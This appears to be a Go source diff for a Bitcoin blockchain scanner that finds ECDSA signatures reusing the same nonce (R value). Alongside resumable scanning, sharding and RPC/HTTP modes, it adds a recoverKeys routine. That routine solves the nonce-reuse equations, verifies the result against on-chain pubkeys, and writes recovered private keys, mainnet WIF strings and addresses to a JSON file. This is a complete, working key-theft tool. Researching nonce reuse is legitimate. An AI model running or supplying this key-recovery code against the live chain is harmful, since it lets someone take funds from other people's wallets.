@@ -5,74 +5,198 @@
 package main
 
 import (
+	"bytes"
 	"encoding/json"
 	"flag"
 	"fmt"
 	"log"
+	"math/big"
 	"os"
 	"os/signal"
 	"path/filepath"
 	"runtime/pprof"
 	"sync"
+	"sync/atomic"
 	"syscall"
 	"time"
 
 	"github.com/bitly/dablooms/godablooms"
 
+	"github.com/btcsuite/btcd/chaincfg/chainhash"
+
 	"github.com/conformal/btcchain"
-	"github.com/conformal/btcdb"
-	_ "github.com/conformal/btcdb/ldb"
 	"github.com/conformal/btcec"
 	"github.com/conformal/btclog"
+	"github.com/conformal/btcnet"
 	"github.com/conformal/btcscript"
 	"github.com/conformal/btcutil"
 )
 
-type stringSet map[string]struct{}
+// rKey is the fixed-size big-endian encoding of a signature's R value. It
+// replaces (*big.Int).String() as a map key so step 2, run over every
+// signature in the chain, doesn't allocate a decimal string per signature.
+type rKey [32]byte
+
+func newRKey(r *big.Int) rKey {
+	var k rKey
+	r.FillBytes(k[:])
+	return k
+}
+
+// rShardCount partitions potentialValues, and the step 2 worker pool that
+// reads it, by the first byte of each rKey. Step 1 only ever runs on a
+// single goroutine, so the shards just need to exist by the time step 2
+// hands each one to its own worker - no locking required at any point.
+const rShardCount = 16
 
-func (s stringSet) Add(item string) {
-	s[item] = struct{}{}
+func shardOf(k rKey) int {
+	return int(k[0]) % rShardCount
 }
 
-func (s stringSet) Contains(item string) bool {
-	_, ok := s[item]
+// potentialSet is the sharded equivalent of the old map[string]struct{}
+// keyed on sig.R.String(): step 1 records every R value the bloom filter
+// says it's seen before, and step 2 looks each signature's R back up here
+// to tell a real bloom hit from a false positive.
+type potentialSet struct {
+	shards [rShardCount]map[rKey]struct{}
+}
+
+func newPotentialSet() *potentialSet {
+	s := &potentialSet{}
+	for i := range s.shards {
+		s.shards[i] = make(map[rKey]struct{})
+	}
+	return s
+}
+
+func (s *potentialSet) Add(k rKey) {
+	s.shards[shardOf(k)][k] = struct{}{}
+}
+
+func (s *potentialSet) Contains(k rKey) bool {
+	_, ok := s.shards[shardOf(k)][k]
 	return ok
 }
 
+// Keys flattens every shard back into the decimal-string form scanState
+// persists, so resuming a scan doesn't depend on this type's internals.
+func (s *potentialSet) Keys() []string {
+	var keys []string
+	for _, shard := range s.shards {
+		for k := range shard {
+			keys = append(keys, new(big.Int).SetBytes(k[:]).String())
+		}
+	}
+	return keys
+}
+
 const (
 	tickFreq  = 10
 	bloomSize = 100000000
 	bloomRate = 0.005
+
+	stateFile = "blockchainr_state.json"
+	bloomFile = "blockchainr_bloom.bin"
+
+	// reorgRollback is how many blocks we re-scan below the persisted tip
+	// when the hash stored there no longer matches the db, so a small reorg
+	// on the node we're pointed at doesn't leave stale potentialValues.
+	reorgRollback = 100
 )
 
-func btcdbSetup(dataDir, dbType string) (log btclog.Logger, db btcdb.Db, cleanup func()) {
-	// Setup logging
-	backendLogger := btclog.NewDefaultBackendLogger()
-	log = btclog.NewSubsystemLogger(backendLogger, "")
-	btcdb.UseLogger(log)
+// scanState is the -resume checkpoint: the last height fully scanned, the
+// hash of the block at that height (to detect a reorg on the next run), the
+// potentialValues set accumulated by step 1 so far, and every signature step
+// 2 has matched against a potential R value so far (Matches). Without
+// Matches, a resumed step 2 - which only walks [height+1, tip) - would never
+// see the older half of a pair it had already found before the checkpoint,
+// and would silently drop it the next time that R comes up again. It can't
+// help with an R whose first-ever occurrence was never matched against
+// anything before the checkpoint, though: that older half simply isn't here
+// to load. search() warns about that case instead of dropping it quietly;
+// see the potentialValues/rMap check at the end of search.
+type scanState struct {
+	Height          int64            `json:"height"`
+	TipHash         string           `json:"tip_hash"`
+	PotentialValues []string         `json:"potential_values"`
+	Matches         []potentialMatch `json:"matches"`
+}
 
-	// Setup database access
-	blockDbNamePrefix := "blocks"
-	dbName := blockDbNamePrefix + "_" + dbType
-	if dbType == "sqlite" {
-		dbName = dbName + ".db"
+// potentialMatch is the on-disk form of one rData step 2 has already matched
+// against a potential R value. rData.sig is unexported, and rData only has a
+// MarshalJSON (which writes R and S out as decimal strings) with no matching
+// UnmarshalJSON, so this is its own minimal, fully-exported type for
+// round-tripping through scanState.
+type potentialMatch struct {
+	R        string `json:"r"`
+	S        string `json:"s"`
+	H        int64  `json:"h"`
+	Tx       int    `json:"tx"`
+	TxIn     int    `json:"tx_in"`
+	Data     int    `json:"data"`
+	Txid     string `json:"txid"`
+	PubKey   []byte `json:"pub_key,omitempty"`
+	HashType byte   `json:"hash_type"`
+}
+
+func (rd *rData) toPotentialMatch(r string) potentialMatch {
+	return potentialMatch{
+		R:        r,
+		S:        rd.sig.S.String(),
+		H:        rd.H,
+		Tx:       rd.Tx,
+		TxIn:     rd.TxIn,
+		Data:     rd.Data,
+		Txid:     rd.Txid,
+		PubKey:   rd.PubKey,
+		HashType: rd.HashType,
+	}
+}
+
+func (m potentialMatch) toRData() (*rData, error) {
+	r, ok := new(big.Int).SetString(m.R, 10)
+	if !ok {
+		return nil, fmt.Errorf("bad R %q", m.R)
+	}
+	s, ok := new(big.Int).SetString(m.S, 10)
+	if !ok {
+		return nil, fmt.Errorf("bad S %q", m.S)
 	}
-	dbPath := filepath.Join(dataDir, "mainnet", dbName)
 
-	log.Infof("loading db %v", dbType)
-	db, err := btcdb.OpenDB(dbType, dbPath)
+	return &rData{
+		sig:      &btcec.Signature{R: r, S: s},
+		H:        m.H,
+		Tx:       m.Tx,
+		TxIn:     m.TxIn,
+		Data:     m.Data,
+		Txid:     m.Txid,
+		PubKey:   m.PubKey,
+		HashType: m.HashType,
+	}, nil
+}
+
+func loadScanState() *scanState {
+	f, err := os.Open(stateFile)
 	if err != nil {
-		log.Warnf("db open failed: %v", err)
-		return
+		return nil
 	}
-	log.Infof("db load complete")
+	defer f.Close()
 
-	cleanup = func() {
-		db.Close()
-		backendLogger.Flush()
+	var state scanState
+	if json.NewDecoder(f).Decode(&state) != nil {
+		return nil
 	}
+	return &state
+}
 
-	return
+func saveScanState(state *scanState) error {
+	f, err := os.Create(stateFile)
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+
+	return json.NewEncoder(f).Encode(state)
 }
 
 type rData struct {
@@ -81,53 +205,94 @@ type rData struct {
 	Tx   int
 	TxIn int
 	Data int
-}
 
-func getSignatures(maxHeigth int64, log btclog.Logger, db btcdb.Db) chan *rData {
-	heigthChan := make(chan int64)
-	blockChan := make(chan *btcutil.Block)
-	sigChan := make(chan *rData)
+	// Txid, HashType and PubKey are only needed for the key-recovery pass in
+	// recoverKeys, but are cheapest to fill in here while we still have the
+	// scriptSig at hand. The sighash itself isn't computed until then: doing
+	// it here meant a FetchTxByHash round trip per signature in the whole
+	// chain, for data only a handful of actual duplicates ever use.
+	Txid     string
+	HashType byte
+	PubKey   []byte
+}
 
-	go func() {
-		for h := int64(0); h < maxHeigth; h++ {
-			heigthChan <- h
-		}
+// MarshalJSON adds the signature's R and S, unexported on rData itself so
+// they don't leak as a plain struct field into every other use of the type,
+// to the JSON form. Without it neither blockchainr.json's groups nor the
+// live /duplicates SSE stream carry the actual nonce that was reused -
+// the former only has it as the surrounding map key, and the latter, with
+// no map at all, wouldn't have it anywhere.
+func (rd *rData) MarshalJSON() ([]byte, error) {
+	type alias rData
+	return json.Marshal(struct {
+		R string `json:"r"`
+		S string `json:"s"`
+		*alias
+	}{
+		R:     rd.sig.R.String(),
+		S:     rd.sig.S.String(),
+		alias: (*alias)(rd),
+	})
+}
 
-		close(heigthChan)
-	}()
+// calcSighash re-fetches signingTxid's t-th input's previous output and
+// computes the signature hash it was signed over, so that two signatures
+// sharing an R value can be checked for a genuine nonce reuse (rather than
+// the same message signed twice). It also returns the previous output's
+// pkScript, since recoverKeys falls back to it for the pubkey when the
+// scriptSig didn't carry one of its own (a P2PK input, say).
+//
+// signingHeight is rd.H, the height recoverKeys already knows the signing tx
+// was confirmed at - passed through as a hint so FetchTxByHash's block walk
+// starts there instead of genesis. The prevout can only be older, never
+// newer, so the same height is reused as the hint for it too.
+//
+// This only runs from recoverKeys now, once per signature that's actually
+// part of a real duplicate group - not from getSignatures for every
+// signature in the chain.
+func calcSighash(db chainDb, signingTxid string, signingHeight int64, t int, hashType btcscript.SigHashType) (sighash, pkScript []byte, err error) {
+	signingHash, err := chainhash.NewHashFromStr(signingTxid)
+	if err != nil {
+		return nil, nil, err
+	}
+	tx, err := db.FetchTxByHash(signingHash, signingHeight)
+	if err != nil {
+		return nil, nil, err
+	}
+	if t >= len(tx.TxIn) {
+		return nil, nil, fmt.Errorf("input %v out of range for %v", t, signingTxid)
+	}
 
-	var blockWg sync.WaitGroup
-	for i := 0; i <= 10; i++ {
-		blockWg.Add(1)
-		go func() {
-			for h := range heigthChan {
-				sha, err := db.FetchBlockShaByHeight(h)
-				if err != nil {
-					log.Warnf("failed FetchBlockShaByHeight(%v): %v", h, err)
-					return
-				}
-				blk, err := db.FetchBlockBySha(sha)
-				if err != nil {
-					log.Warnf("failed FetchBlockBySha(%v) - h %v: %v", sha, h, err)
-					return
-				}
+	prevOut := tx.TxIn[t].PreviousOutPoint
+	prevHash, err := chainhash.NewHash(prevOut.Hash[:])
+	if err != nil {
+		return nil, nil, err
+	}
+	prevTx, err := db.FetchTxByHash(prevHash, signingHeight)
+	if err != nil {
+		return nil, nil, err
+	}
 
-				blockChan <- blk
-			}
-			blockWg.Done()
-		}()
+	if int(prevOut.Index) >= len(prevTx.TxOut) {
+		return nil, nil, fmt.Errorf("prevout index %v out of range for %v", prevOut.Index, prevOut.Hash)
 	}
-	go func() {
-		blockWg.Wait()
-		close(blockChan)
-	}()
+	pkScript = prevTx.TxOut[prevOut.Index].PkScript
+
+	sighash, err = btcscript.CalcSignatureHash(pkScript, hashType, tx, t)
+	return sighash, pkScript, err
+}
+
+// getSignatures pulls every pushed signature out of every block blocks
+// delivers.
+func getSignatures(blocks <-chan *heightBlock) chan *rData {
+	sigChan := make(chan *rData)
 
 	var sigWg sync.WaitGroup
 	for i := 0; i <= 10; i++ {
 		sigWg.Add(1)
 		go func() {
-			for blk := range blockChan {
-				mblk := blk.MsgBlock()
+			for hb := range blocks {
+				mblk := hb.block
 				for i, tx := range mblk.Transactions {
 					if btcchain.IsCoinBase(btcutil.NewTx(tx)) {
 						continue
@@ -145,13 +310,28 @@ func getSignatures(maxHeigth int64, log btclog.Logger, db btcdb.Db) chan *rData
 								continue
 							}
 
-							sigChan <- &rData{
+							rd := &rData{
 								sig:  signature,
-								H:    blk.Height(),
+								H:    hb.height,
 								Tx:   i,
 								TxIn: t,
 								Data: d,
+								Txid: btcutil.NewTx(tx).Sha().String(),
+							}
+
+							if len(data) > 0 {
+								rd.HashType = data[len(data)-1]
 							}
+
+							// A standard P2PKH scriptSig pushes the pubkey
+							// right after the signature; grab it so
+							// recoverKeys can verify a candidate key without
+							// touching the db again.
+							if d+1 < len(dataSlice) {
+								rd.PubKey = dataSlice[d+1]
+							}
+
+							sigChan <- rd
 						}
 					}
 				}
@@ -167,25 +347,112 @@ func getSignatures(maxHeigth int64, log btclog.Logger, db btcdb.Db) chan *rData
 	return sigChan
 }
 
-func search(log btclog.Logger, db btcdb.Db) map[string][]*rData {
+func search(log btclog.Logger, db chainDb, resume bool, stats *liveStats) map[string][]*rData {
 	// Setup signal handler
 	signalChan := make(chan os.Signal, 1)
 	signal.Notify(signalChan, syscall.SIGINT, syscall.SIGTERM, syscall.SIGUSR1)
 
-	// Potential optimisation: keep the bloom filter between runs
-	filter := dablooms.NewScalingBloom(bloomSize, bloomRate, "blockchainr_bloom.bin")
+	potentialValues := newPotentialSet()
+	rMap := make(map[string][]*rData)
+
+	_, maxHeigth, err := db.NewestHash()
+	if err != nil {
+		log.Warnf("db NewestHash failed: %v", err)
+		return nil
+	}
+
+	minHeigth := int64(0)
+	if resume {
+		if state := loadScanState(); state == nil {
+			log.Infof("-resume passed but %v doesn't exist, doing a full scan", stateFile)
+		} else {
+			minHeigth = state.Height + 1
+
+			reorged := false
+			if storedHash, err := db.FetchBlockHashByHeight(state.Height); err != nil || storedHash.String() != state.TipHash {
+				reorged = true
+				log.Warnf("reorg detected around height %v, rolling back %v blocks", state.Height, reorgRollback)
+				minHeigth = state.Height - reorgRollback
+				if minHeigth < 0 {
+					minHeigth = 0
+				}
+			}
+
+			if reorged {
+				// dablooms has no delete, so the only way to evict the R
+				// values a reverted block's signatures added is to throw the
+				// whole filter away and rebuild it from minHeigth on; the
+				// persisted potentialValues/Matches are just as tainted, so
+				// they're dropped rather than reloaded. Anything that only
+				// paired up below minHeigth is lost for this run - a full
+				// -resume=false rescan is the only way to recover it.
+				if err := os.Remove(bloomFile); err != nil && !os.IsNotExist(err) {
+					log.Warnf("failed to remove stale %v after reorg: %v", bloomFile, err)
+				}
+				log.Warnf("discarding persisted potentialValues/matches after reorg; a pair that only matched below height %v won't be found without a full -resume=false rescan", minHeigth)
+			} else {
+				for _, r := range state.PotentialValues {
+					n, ok := new(big.Int).SetString(r, 10)
+					if !ok {
+						log.Warnf("bad potential value %q in %v, skipping", r, stateFile)
+						continue
+					}
+					potentialValues.Add(newRKey(n))
+				}
+
+				for _, m := range state.Matches {
+					rd, err := m.toRData()
+					if err != nil {
+						log.Warnf("bad match in %v, skipping: %v", stateFile, err)
+						continue
+					}
+					rMap[m.R] = append(rMap[m.R], rd)
+				}
+			}
+
+			log.Infof("resuming scan from height %v of %v", minHeigth, maxHeigth)
+		}
+	}
+
+	// NewScalingBloom starts an empty filter at bloomFile, while
+	// NewScalingBloomFromFile maps the one an earlier run left there. A
+	// resumed scan reopens the existing file, so every R value step 1 has
+	// seen in earlier runs (short of the reorg case above, which removed the
+	// file) carries forward; a full scan starts from an empty filter.
+	var filter *dablooms.ScalingBloom
+	if _, err := os.Stat(bloomFile); err == nil && minHeigth > 0 {
+		filter = dablooms.NewScalingBloomFromFile(bloomSize, bloomRate, bloomFile)
+	} else {
+		filter = dablooms.NewScalingBloom(bloomSize, bloomRate, bloomFile)
+	}
 	if filter == nil {
 		log.Warn("dablooms.NewScalingBloom failed")
 		return nil
 	}
 
-	potentialValues := make(stringSet)
-	rMap := make(map[string][]*rData)
+	saveState := func() {
+		lastHeigth := maxHeigth - 1
+		lastHash, err := db.FetchBlockHashByHeight(lastHeigth)
+		if err != nil {
+			log.Warnf("failed to fetch hash at height %v for state persistence: %v", lastHeigth, err)
+			return
+		}
 
-	_, maxHeigth, err := db.NewestSha()
-	if err != nil {
-		log.Warnf("db NewestSha failed: %v", err)
-		return nil
+		var matches []potentialMatch
+		for r, group := range rMap {
+			for _, rd := range group {
+				matches = append(matches, rd.toPotentialMatch(r))
+			}
+		}
+
+		if err := saveScanState(&scanState{
+			Height:          lastHeigth,
+			TipHash:         lastHash.String(),
+			PotentialValues: potentialValues.Keys(),
+			Matches:         matches,
+		}); err != nil {
+			log.Warnf("failed to persist scan state: %v", err)
+		}
 	}
 
 	for step := 1; step <= 2; step++ {
@@ -195,22 +462,76 @@ func search(log btclog.Logger, db btcdb.Db) map[string][]*rData {
 		matches := int64(0)
 		ticker := time.Tick(tickFreq * time.Second)
 
-		signatures := getSignatures(maxHeigth, log, db)
+		source := &batchSource{db: db, minHeigth: minHeigth, maxHeigth: maxHeigth, log: log}
+		blocks, srcErrs := source.Blocks()
+		go func() {
+			if err := <-srcErrs; err != nil {
+				log.Warnf("batch source error: %v", err)
+			}
+		}()
+
+		signatures := getSignatures(blocks)
+
+		// Step 2 fans every signature out to rShardCount workers by
+		// shardOf(R). Each worker owns its slice of rMap outright, so
+		// looking a match up in potentialValues and recording it never
+		// needs a lock shared across workers.
+		var (
+			shardChans [rShardCount]chan *rData
+			shardMaps  [rShardCount]map[rKey][]*rData
+			shardWG    sync.WaitGroup
+		)
+		if step == 2 {
+			for i := 0; i < rShardCount; i++ {
+				shardChans[i] = make(chan *rData, 64)
+				shardMaps[i] = make(map[rKey][]*rData)
+
+				shardWG.Add(1)
+				go func(i int) {
+					defer shardWG.Done()
+					for rd := range shardChans[i] {
+						k := newRKey(rd.sig.R)
+						if potentialValues.Contains(k) {
+							atomic.AddInt64(&matches, 1)
+							shardMaps[i][k] = append(shardMaps[i][k], rd)
+						}
+					}
+				}(i)
+			}
+		}
+
+		drainShards := func() {
+			for _, ch := range shardChans {
+				close(ch)
+			}
+			shardWG.Wait()
+			for _, shard := range shardMaps {
+				for k, group := range shard {
+					r := new(big.Int).SetBytes(k[:]).String()
+					rMap[r] = append(rMap[r], group...)
+				}
+			}
+		}
+
 		for rd := range signatures {
 			select {
 			case s := <-signalChan:
 				log.Infof("Step %v - signal %v - %v sigs in %.2fs, %v matches, %v total, block %v of %v",
 					step, s, sigCounter-lastSig, time.Since(lastTime).Seconds(),
-					matches, sigCounter, rd.H, maxHeigth)
+					atomic.LoadInt64(&matches), sigCounter, rd.H, maxHeigth)
 
 				if s == syscall.SIGINT || s == syscall.SIGTERM {
+					if step == 2 {
+						drainShards()
+					}
+					saveState()
 					return rMap
 				}
 
 			case <-ticker:
 				log.Infof("Step %v - %v sigs in %.2fs, %v matches, %v total, block %v of %v",
 					step, sigCounter-lastSig, time.Since(lastTime).Seconds(),
-					matches, sigCounter, rd.H, maxHeigth)
+					atomic.LoadInt64(&matches), sigCounter, rd.H, maxHeigth)
 				lastTime = time.Now()
 				lastSig = sigCounter
 
@@ -225,19 +546,28 @@ func search(log btclog.Logger, db btcdb.Db) map[string][]*rData {
 				b := rd.sig.R.Bytes()
 				if filter.Check(b) {
 					matches++
-					potentialValues.Add(rd.sig.R.String())
+					potentialValues.Add(newRKey(rd.sig.R))
 				} else {
 					if !filter.Add(b, 1) {
 						log.Warn("Add failed (?)")
 					}
 				}
 			} else if step == 2 {
-				if potentialValues.Contains(rd.sig.R.String()) {
-					matches++
-					rMap[rd.sig.R.String()] = append(rMap[rd.sig.R.String()], rd)
-				}
+				k := newRKey(rd.sig.R)
+				shardChans[shardOf(k)] <- rd
 			}
 			sigCounter++
+
+			if stats != nil {
+				atomic.StoreInt64(&stats.sigCounter, sigCounter)
+				atomic.StoreInt64(&stats.matches, atomic.LoadInt64(&matches))
+				atomic.StoreInt64(&stats.height, rd.H)
+				atomic.StoreInt64(&stats.tipHeight, maxHeigth)
+			}
+		}
+
+		if step == 2 {
+			drainShards()
 		}
 
 		if *memprofile != "" {
@@ -251,11 +581,195 @@ func search(log btclog.Logger, db btcdb.Db) map[string][]*rData {
 		}
 
 		log.Infof("Step %v done - %v signatures processed - %v matches",
-			step, sigCounter, matches)
+			step, sigCounter, atomic.LoadInt64(&matches))
+	}
+
+	// A bloom hit is either an R seen before or a bloom false positive, and
+	// says nothing about where. If a genuine earlier occurrence is in a block
+	// this resume started past, rMap only ever picks up the new one, just as
+	// it does for a false positive. runBatchMode's len(v) > 1 filter would
+	// otherwise drop such a singleton with no trace; warn instead, since
+	// telling the two cases apart here means rescanning from genesis.
+	for _, r := range potentialValues.Keys() {
+		if len(rMap[r]) == 1 {
+			log.Warnf("R %v flagged by the bloom filter but only one occurrence was found from height %v on; either a bloom false positive, or its other half is below that height and a full -resume=false rescan is needed to recover the pair", r, minHeigth)
+		}
 	}
+
+	saveState()
 	return rMap
 }
 
+// keyRecovery is one recovered private key, together with the two offending
+// (txid, vin) pairs whose signatures shared an R value and leaked it.
+type keyRecovery struct {
+	R       string `json:"r"`
+	PrivKey string `json:"private_key"`
+	WIF     string `json:"wif"`
+	Address string `json:"address"`
+	Txid1   string `json:"txid1"`
+	Vin1    int    `json:"vin1"`
+	Txid2   string `json:"txid2"`
+	Vin2    int    `json:"vin2"`
+}
+
+// sigContext is an rData's sighash and the pkScript it was computed against,
+// resolved lazily (and cached) by recoverKeys since both need a db round
+// trip that's only worth paying for a confirmed duplicate.
+type sigContext struct {
+	sighash  []byte
+	pkScript []byte
+}
+
+// recoverKeys walks every group of signatures that reused the same R value
+// and, for each pair that actually signed a different message hash, solves
+// the nonce-reuse equations for the private key:
+//
+//	k = (z1 - z2) / (s1 - s2) mod n
+//	d = (s1*k - z1) / r mod n
+//
+// The candidate key is verified against the pubkey pulled from the
+// signature's own scriptSig, falling back to the previous output's pkScript
+// for inputs (P2PK, say) whose scriptSig doesn't carry one, before being
+// reported - so a bloom false positive or an unrelated pubkey can never
+// produce a bogus result.
+func recoverKeys(realDuplicates map[string][]*rData, db chainDb, log btclog.Logger) []keyRecovery {
+	n := btcec.S256().N
+
+	var recovered []keyRecovery
+	for r, group := range realDuplicates {
+		ctx := make(map[int]*sigContext, len(group))
+		sigCtx := func(i int) *sigContext {
+			if c, ok := ctx[i]; ok {
+				return c
+			}
+			rd := group[i]
+			sighash, pkScript, err := calcSighash(db, rd.Txid, rd.H, rd.TxIn, btcscript.SigHashType(rd.HashType))
+			if err != nil {
+				log.Debugf("failed to compute sighash for %v:%v: %v", rd.Txid, rd.TxIn, err)
+			}
+			c := &sigContext{sighash: sighash, pkScript: pkScript}
+			ctx[i] = c
+			return c
+		}
+
+		for i := 0; i < len(group); i++ {
+			for j := i + 1; j < len(group); j++ {
+				a, b := group[i], group[j]
+				aCtx, bCtx := sigCtx(i), sigCtx(j)
+				if aCtx.sighash == nil || bCtx.sighash == nil {
+					continue
+				}
+
+				z1 := new(big.Int).SetBytes(aCtx.sighash)
+				z2 := new(big.Int).SetBytes(bCtx.sighash)
+				if z1.Cmp(z2) == 0 {
+					// Same message hash: the two are just the same
+					// signature twice, not an exploitable nonce reuse.
+					continue
+				}
+
+				sDiff := new(big.Int).Sub(a.sig.S, b.sig.S)
+				sDiff.Mod(sDiff, n)
+				sInv := new(big.Int).ModInverse(sDiff, n)
+				if sInv == nil {
+					continue
+				}
+
+				zDiff := new(big.Int).Sub(z1, z2)
+				zDiff.Mod(zDiff, n)
+
+				k := new(big.Int).Mul(zDiff, sInv)
+				k.Mod(k, n)
+
+				rInv := new(big.Int).ModInverse(a.sig.R, n)
+				if rInv == nil {
+					continue
+				}
+
+				d := new(big.Int).Mul(a.sig.S, k)
+				d.Sub(d, z1)
+				d.Mul(d, rInv)
+				d.Mod(d, n)
+
+				aPubKey, bPubKey := a.PubKey, b.PubKey
+				if aPubKey == nil {
+					aPubKey = pubKeyFromPkScript(aCtx.pkScript)
+				}
+				if bPubKey == nil {
+					bPubKey = pubKeyFromPkScript(bCtx.pkScript)
+				}
+
+				priv, pub := btcec.PrivKeyFromBytes(btcec.S256(), d.Bytes())
+				if !verifyPubKey(pub, aPubKey) && !verifyPubKey(pub, bPubKey) {
+					log.Warnf("recovered key for R %v didn't match either pubkey, skipping", r)
+					continue
+				}
+
+				compressed := len(aPubKey) == btcec.PubKeyBytesLenCompressed ||
+					len(bPubKey) == btcec.PubKeyBytesLenCompressed
+				wif, err := btcutil.NewWIF(priv, &btcnet.MainNetParams, compressed)
+				if err != nil {
+					log.Warnf("NewWIF failed for R %v: %v", r, err)
+					continue
+				}
+
+				pubKeyBytes := pub.SerializeUncompressed()
+				if compressed {
+					pubKeyBytes = pub.SerializeCompressed()
+				}
+				addr, err := btcutil.NewAddressPubKeyHash(btcutil.Hash160(pubKeyBytes), &btcnet.MainNetParams)
+				if err != nil {
+					log.Warnf("NewAddressPubKeyHash failed for R %v: %v", r, err)
+					continue
+				}
+
+				recovered = append(recovered, keyRecovery{
+					R:       r,
+					PrivKey: fmt.Sprintf("%x", d.Bytes()),
+					WIF:     wif.String(),
+					Address: addr.EncodeAddress(),
+					Txid1:   a.Txid,
+					Vin1:    a.TxIn,
+					Txid2:   b.Txid,
+					Vin2:    b.TxIn,
+				})
+			}
+		}
+	}
+
+	return recovered
+}
+
+// verifyPubKey reports whether pub serializes, compressed or not, to the raw
+// pubkey bytes pulled out of a scriptSig.
+func verifyPubKey(pub *btcec.PublicKey, raw []byte) bool {
+	if raw == nil {
+		return false
+	}
+	return bytes.Equal(pub.SerializeCompressed(), raw) || bytes.Equal(pub.SerializeUncompressed(), raw)
+}
+
+// pubKeyFromPkScript pulls the pubkey out of a P2PK pkScript (`<pubkey>
+// OP_CHECKSIG`), the same way getSignatures pulls one out of a P2PKH
+// scriptSig: a P2PK script pushes exactly one item, the pubkey itself.
+// PushedData alone can't tell that apart from, say, a P2PKH pkScript's
+// pushed hash160, so the length is checked against the two valid pubkey
+// encodings too.
+func pubKeyFromPkScript(pkScript []byte) []byte {
+	pushes, err := btcscript.PushedData(pkScript)
+	if err != nil || len(pushes) != 1 {
+		return nil
+	}
+
+	switch len(pushes[0]) {
+	case btcec.PubKeyBytesLenCompressed, btcec.PubKeyBytesLenUncompressed:
+		return pushes[0]
+	default:
+		return nil
+	}
+}
+
 var (
 	cpuprofile = flag.String("cpuprofile", "", "write cpu profile to file")
 	memprofile = flag.String("memprofile", "", "write memory profile to this file")
@@ -263,8 +777,14 @@ var (
 
 func main() {
 	var (
-		dataDir = flag.String("datadir", filepath.Join(btcutil.AppDataDir("btcd", false), "data"), "BTCD: Data directory")
-		dbType  = flag.String("dbtype", "leveldb", "BTCD: Database backend")
+		dataDir  = flag.String("datadir", filepath.Join(btcutil.AppDataDir("btcd", false), "data"), "BTCD: Data directory")
+		dbType   = flag.String("dbtype", "ffldb", "BTCD: Database backend (the default build opens ffldb only; build with -tags legacy_ldb to open \"leveldb\" instead)")
+		resume   = flag.Bool("resume", false, fmt.Sprintf("Resume scanning from the height stored in %v", stateFile))
+		mode     = flag.String("mode", "batch", `Scan mode: "batch" (one-shot db scan, default) or "rpc" (live via a running btcd)`)
+		httpAddr = flag.String("httpaddr", "", "Serve /stats and /duplicates on this address (e.g. :8333); empty disables it")
+		rpcAddr  = flag.String("rpcaddr", "localhost:8334", "RPC: btcd RPC server address (-mode=rpc)")
+		rpcUser  = flag.String("rpcuser", "", "RPC: btcd RPC username (-mode=rpc)")
+		rpcPass  = flag.String("rpcpass", "", "RPC: btcd RPC password (-mode=rpc)")
 	)
 	flag.Parse()
 
@@ -277,11 +797,38 @@ func main() {
 		defer pprof.StopCPUProfile()
 	}
 
+	stats := &liveStats{}
+	dups := newDupBroadcaster()
+	if *httpAddr != "" {
+		httpLog, _ := newLogger()
+		go serveHTTP(*httpAddr, stats, dups, httpLog)
+	}
+
+	switch *mode {
+	case "rpc":
+		runRPCMode(*rpcAddr, *rpcUser, *rpcPass, stats, dups)
+
+	case "batch":
+		runBatchMode(*dataDir, *dbType, *resume, stats)
+
+	default:
+		log.Fatalf("unknown -mode %q, want \"batch\" or \"rpc\"", *mode)
+	}
+}
+
+// newLogger sets up a standalone btclog.Logger, for code paths (the HTTP
+// server, -mode=rpc) that don't go through btcdbSetup's own logger.
+func newLogger() (btclog.Logger, func()) {
+	backendLogger := btclog.NewDefaultBackendLogger()
+	return btclog.NewSubsystemLogger(backendLogger, ""), backendLogger.Flush
+}
+
+func runBatchMode(dataDir, dbType string, resume bool, stats *liveStats) {
 	// Setup btcdb
-	log, db, dbCleanup := btcdbSetup(*dataDir, *dbType)
+	log, db, dbCleanup := btcdbSetup(dataDir, dbType)
 	defer dbCleanup()
 
-	duplicates := search(log, db)
+	duplicates := search(log, db, resume, stats)
 
 	realDuplicates := make(map[string][]*rData)
 	for k, v := range duplicates {
@@ -295,8 +842,33 @@ func main() {
 		log.Warnf("failed to create blockchainr.json: %v", err)
 		return
 	}
-	if json.NewEncoder(resultsFile).Encode(realDuplicates) != nil {
+	if err := json.NewEncoder(resultsFile).Encode(realDuplicates); err != nil {
 		log.Warnf("failed to Encode the result: %v", err)
 		return
 	}
+
+	recoveredKeys := recoverKeys(realDuplicates, db, log)
+
+	keysFile, err := os.Create("blockchainr_keys.json")
+	if err != nil {
+		log.Warnf("failed to create blockchainr_keys.json: %v", err)
+		return
+	}
+	if err := json.NewEncoder(keysFile).Encode(recoveredKeys); err != nil {
+		log.Warnf("failed to Encode the key recovery report: %v", err)
+		return
+	}
+}
+
+func runRPCMode(rpcAddr, rpcUser, rpcPass string, stats *liveStats, dups *dupBroadcaster) {
+	log, flush := newLogger()
+	defer flush()
+
+	source, err := newRPCSource(rpcAddr, rpcUser, rpcPass, log)
+	if err != nil {
+		log.Warnf("failed to connect to btcd at %v: %v", rpcAddr, err)
+		return
+	}
+
+	runLive(log, source, stats, dups)
 }